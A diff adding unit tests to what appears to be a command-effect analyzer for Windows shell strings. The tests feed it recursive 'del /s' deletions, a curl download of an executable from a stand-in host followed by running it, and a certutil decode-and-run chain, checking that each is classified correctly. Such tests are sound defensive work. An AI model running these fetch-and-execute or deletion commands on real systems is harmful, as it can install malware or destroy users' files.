@@ -159,3 +159,21 @@ test('a batch file that this text wrote is read from this text', () => {
   assert.ok(embedded !== undefined && 'text' in embedded.want);
   assert.equal(embedded.want.text.trim(), 'del x');
 });
+
+test('del /s takes a pattern to every folder below', () => {
+  assert.deepEqual(effectsOf('del /q /s src\\*.cs'), ['file.delete /workspace/src/**/*.cs']);
+  assert.deepEqual(effectsOf('del /s *.log'), ['file.delete /workspace/**/*.log']);
+  assert.deepEqual(effectsOf('del /q src\\*.cs'), ['file.delete /workspace/src/*.cs']);
+});
+
+test('a program that this text wrote into the current folder is known by its bare name', () => {
+  for (const text of ['curl -o a.exe https://x.example/a & a.exe', 'curl -o a.exe https://x.example/a && a']) {
+    assert.ok(
+      effectsOf(text).some((effect) => effect.startsWith('exec.download ')),
+      text,
+    );
+  }
+  const decoded = read('certutil -decode a.b64 a.exe & a.exe');
+  assert.ok(decoded.effects.some(({ kind, traits }) => kind === 'exec.opaque' && traits.includes('decoded')));
+  assert.equal(decoded.complete, false);
+});
